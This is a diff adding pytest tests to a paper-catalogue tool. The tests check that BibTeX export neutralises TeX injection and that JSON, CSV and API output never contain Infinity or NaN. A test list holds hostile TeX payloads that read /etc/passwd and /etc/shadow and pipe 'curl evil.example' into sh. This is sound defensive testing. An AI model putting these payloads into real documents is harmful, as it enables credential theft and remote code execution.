@@ -9,17 +9,23 @@ In-process checks use the app through TestClient; the `live_*` tests start a rea
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
+import sqlite3
 import sys
 from pathlib import Path
 from urllib.parse import quote
 
 import pytest
 from fastapi.routing import APIRoute
+from fastapi.testclient import TestClient
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from atlas_fixture import web_atlas_db, web_client  # noqa: F401 - the db and client fixtures
+from paperatlas.web.app import create_app
 
 PAPERATLAS = str(Path(sys.executable).with_name("paperatlas"))
 SAME = {"origin": "http://127.0.0.1", "content-type": "application/json"}
@@ -182,3 +188,116 @@ def test_a_repeated_origin_fetch_site_or_host_is_refused(client, headers):
         r = client.post("/api/marks", content=b'{"id": "robots-01", "liked": true}', headers=raw)
     assert r.status_code in (400, 403), r.text
     assert client.get("/api/marks").json()["liked"] == before
+
+
+# -- exports: valid JSON, inert BibTeX ---------------------------------------------------------
+
+TEX_ATTACKS = [
+    r"\input{/etc/passwd}",
+    r"\include{secrets}",
+    r"\openin5=/etc/shadow \read5 to\x",
+    r"\immediate\write18{curl evil.example | sh}",
+    r"\def\title{owned}\let\x\relax",
+    r"\catcode`\^=7 ^^5cinput{/etc/passwd}",
+    r"\csname input\endcsname{/etc/passwd}",
+    r"\begin{filecontents}{x.tex}",
+    r"\textbf{bold \openout3=x.tex}",
+    r"math $\input{/etc/passwd}$ and $^^5cwrite18{x}$ and $\alpha$",
+    r"\\input{/etc/passwd}",
+]
+DANGEROUS = ("input", "include", "openin", "openout", "read", "write", "immediate", "def", "let")
+DANGEROUS += ("catcode", "csname", "endcsname", "begin", "relax", "write18")
+
+
+def _add_records(tmp_path: Path, records: list[dict]):
+    from paperatlas import Atlas
+
+    src = tmp_path / "hostile.jsonl"
+    src.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
+    atlas = Atlas(tmp_path / "hostile.db")
+    atlas.add([src], list_name="hostile", enrich=False)
+    return atlas
+
+
+def _abstract(n: int) -> str:
+    return f"We study hostile paper number {n} and report what it does to every exporter in a long sentence."
+
+
+def test_bibtex_export_runs_no_tex_command_from_any_field(tmp_path):
+    import bibtexparser
+
+    from paperatlas import sources
+    from paperatlas.report.export import export_papers
+
+    records = [
+        {
+            "id": f"tex{n}",
+            "title": attack,
+            "abstract": _abstract(n) + " " + attack,
+            "authors": [attack, "Ada Lovelace"],
+            "keywords": [attack],
+            "venue": "Proceedings of ICLR " + attack,
+            "decision": "Accept " + attack,
+            "area": attack,
+        }
+        for n, attack in enumerate(TEX_ATTACKS)
+    ]
+    atlas = _add_records(tmp_path, records)
+    out = tmp_path / "out.bib"
+    export_papers(atlas.store, "bibtex", out)
+    text = out.read_text(encoding="utf-8")
+    for name in DANGEROUS:
+        assert not re.search(r"\\" + name + r"(?![A-Za-z])", text), name
+    assert "^^" not in text
+    assert r"$\alpha$" in text  # math that only typesets is kept
+    library = bibtexparser.parse_string(text)
+    assert library.failed_blocks == [] and len(library.entries) == len(TEX_ATTACKS)
+    back = {p.id: p for p in sources.read(out)}
+    for n, attack in enumerate(TEX_ATTACKS):  # what was typed reads back as typed
+        if "\\textbf" not in attack and "$" not in attack:  # (the reader drops formatting)
+            assert back[f"tex{n}"].title == attack, n
+
+
+NON_FINITE = (
+    '{"id": "inf1", "title": "Infinite rating", "abstract": "%s", "rating": 1e999, '
+    '"ratings": [1e999, -1e999, 5], "score": -1e999, "nested": {"x": [NaN, Infinity]}}\n'
+)
+
+
+def _strict_json(text: str):
+    def refuse(name):
+        raise AssertionError(f"{name} is not JSON")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_jsonl_export_and_json_outputs_never_write_infinity_or_nan(tmp_path, cli):
+    from paperatlas.report.export import export_papers
+
+    src = tmp_path / "inf.jsonl"
+    src.write_text(NON_FINITE % _abstract(1), encoding="utf-8")
+    db = tmp_path / "inf.db"
+    assert cli("add", str(src), "--db", str(db), "--no-enrich", use_db=False)[0] == 0
+    code, out, _ = cli("export", "--db", str(db), use_db=False)
+    assert code == 0
+    [record] = [_strict_json(line) for line in out.splitlines()]
+    assert record["rating"] is None
+    assert record["extra"]["score"] is None and record["extra"]["nested"] == {"x": [None, None]}
+    code, out, _ = cli("search", "infinite rating", "--json", "--db", str(db), use_db=False)
+    assert code == 0 and _strict_json(out)
+    # an atlas written before: the numbers are in the store already
+    with sqlite3.connect(db) as conn:
+        conn.execute('UPDATE papers SET rating = 9e999, extra = \'{"score": Infinity, "n": NaN}\'')
+    from paperatlas import Atlas
+
+    buffer = io.StringIO()
+    export_papers(Atlas(db).store, "jsonl", buffer)
+    [record] = [_strict_json(line) for line in buffer.getvalue().splitlines()]
+    assert record["rating"] is None and record["extra"] == {"score": None, "n": None}
+    buffer = io.StringIO()
+    export_papers(Atlas(db).store, "csv", buffer)
+    [row] = csv.DictReader(io.StringIO(buffer.getvalue()))
+    assert row["rating"] == ""
+    with TestClient(create_app(db), base_url="http://127.0.0.1") as c:
+        r = c.get("/api/search", params={"q": "infinite rating"})
+        assert r.status_code == 200 and _strict_json(r.text)["hits"]
